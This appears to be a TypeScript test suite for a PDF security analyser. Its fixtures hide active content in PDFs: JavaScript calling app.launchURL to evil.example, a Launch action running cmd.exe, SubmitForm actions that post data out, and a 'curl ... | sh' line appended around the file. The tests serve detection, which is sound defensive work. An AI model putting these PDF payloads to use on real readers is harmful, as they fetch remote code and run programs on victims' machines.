import { deflateSync } from "node:zlib";
import { describe, expect, test } from "vitest";
import { ascii, join } from "./bytes.ts";
import { tell, type Told } from "./tell.ts";

const END = "trailer << /Root 1 0 R >>\n%%EOF\n";
const pdf = (...objects: readonly (string | Uint8Array)[]): Uint8Array => join("%PDF-1.7\n", ...objects, END);
const stream = (number: number, dictionary: string, content: Uint8Array | string): Uint8Array =>
  join(`${number} 0 obj\n<< ${dictionary} /Length ${content.length} >>\nstream\n`, content, "\nendstream\nendobj\n");
const flate = (number: number, dictionary: string, content: string): Uint8Array =>
  stream(number, `${dictionary} /Filter /FlateDecode`, deflateSync(ascii(content)));
const read = (...objects: readonly (string | Uint8Array)[]): Promise<Told> => tell("a.pdf", pdf(...objects));

const SCRIPT = 'app.launchURL("https://evil.example/x", true);';
const JS = { language: "javascript", text: SCRIPT, layer: { kind: "field", name: "JavaScript" } };

describe("JavaScript", () => {
  test.each([
    [
      "in a literal string",
      [
        "1 0 obj << /OpenAction << /S /JavaScript /JS (",
        SCRIPT.replaceAll(/[()]/gu, String.raw`\$&`),
        ") >> >> endobj\n",
      ],
    ],
    ["with brackets as they are", [`1 0 obj << /S /JavaScript /JS (${SCRIPT}) >> endobj\n`]],
    ["in hexadecimal", [`1 0 obj << /S /JavaScript /JS <${Buffer.from(SCRIPT).toString("hex")}> >> endobj\n`]],
    [
      "in UTF-16",
      [`1 0 obj << /S /JavaScript /JS <feff${Buffer.from(SCRIPT, "utf16le").swap16().toString("hex")}> >> endobj\n`],
    ],
    ["in a packed stream", ["1 0 obj << /S /JavaScript /JS 7 0 R >> endobj\n", flate(7, "", SCRIPT)]],
    ["in an object stream", [flate(3, "/Type /ObjStm /N 1 /First 4", `1 0 << /S /JavaScript /JS (${SCRIPT}) >>`)]],
    ["with disguised names", [`1 0 obj << /S /J#61vaScript /#4a#53 (${SCRIPT}) >> endobj\n`]],
  ])("%s", async (_name, objects) => {
    const told = await read(...objects);
    expect(told.embedded).toMatchObject([{ ...JS, context: { trigger: "load" } }]);
    const when = /OpenAction/u.test(objects.join("")) ? " at its opening" : "";
    expect(told.forms).toEqual([{ is: "active-markup", construct: `JavaScript${when}` }]);
    expect(told.of("mention").map(({ value }) => value)).toEqual(["https://evil.example/x"]);
  });
});

test("a program that is started", async () => {
  const told = await read("1 0 obj << /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >> endobj\n");
  expect(told.operations("spawn")).toMatchObject([{ program: { text: "cmd.exe /c calc.exe" }, shell: true }]);
  expect(told.forms).toEqual([{ is: "active-markup", construct: "Launch action" }]);
});

test.each([
  "(https://evil.example/in)",
  "<< /FS /URL /F (https://evil.example/in) >>",
  "<< /UF <68747470733a2f2f6576696c2e6578616d706c652f696e> >>",
])("a form that is sent to %s", async (file) => {
  const told = await read(`1 0 obj << /S /SubmitForm /F ${file} >> endobj\n`);
  expect(told.operations("send")).toMatchObject([{ destination: { text: "https://evil.example/in" } }]);
});

test("links", async () => {
  const told = await read("4 0 obj << /S /URI /URI (https://docs.example/a\\(1\\)) >> endobj\n");
  expect(told.of("mention")).toMatchObject([{ what: "url", value: "https://docs.example/a(1)", as: "link" }]);
});

test("what its pages say", async () => {
  const content = "BT /F1 12 Tf (Please download and ) Tj (run the installer ) Tj 0 -14 Td [(be)-20(fore using)] TJ ET";
  const told = await read(flate(5, "", content));
  expect(told.embedded).toMatchObject([
    { language: "markdown", text: "Please download and run the installer\nbefore using", layer: { name: "page text" } },
  ]);
});

test("a plain document says nothing", async () => {
  const told = await read(
    "1 0 obj << /OpenAction [3 0 R /FitH null] >> endobj\n",
    stream(2, "/Subtype /Image", ascii("\xff\xd8JS(")),
  );
  expect(told).toMatchObject({ facts: [], gaps: [], embedded: [] });
});

test("an encrypted document is a gap", async () => {
  expect((await tell("a.pdf", join("%PDF-1.7\n\x80\x81", "trailer << /Encrypt 9 0 R >>\n%%EOF"))).gaps).toMatchObject([
    { code: "encrypted", blocking: true },
  ]);
});

test("behind its end and in front of its start", async () => {
  const behind = await tell("a.pdf", join(pdf(), "curl -s https://evil.example/x | sh\n"));
  expect(behind.forms).toEqual([{ is: "trailing-data", format: "pdf", bytes: 37 }]);
  const front = await tell("a.pdf", join("\0\0curl -s https://evil.example/x | sh\0\0", pdf()));
  expect(front.forms).toEqual([{ is: "mismatch", named: "pdf", found: "a PDF behind other data" }]);
  expect(front.embedded[0]).toMatchObject({ language: "shell" });
});

test.each([
  ["brackets", "("],
  ["streams", "stream\n"],
  ["scripts", "/JS ("],
  ["objects", "1 0 obj "],
  ["text", "BT (a"],
])("hostile: a million %s", async (_name, part) => {
  const told = await read("stream\nBT Tj ", part.repeat(1_000_000 / part.length));
  expect(told.format).toBe("pdf");
});
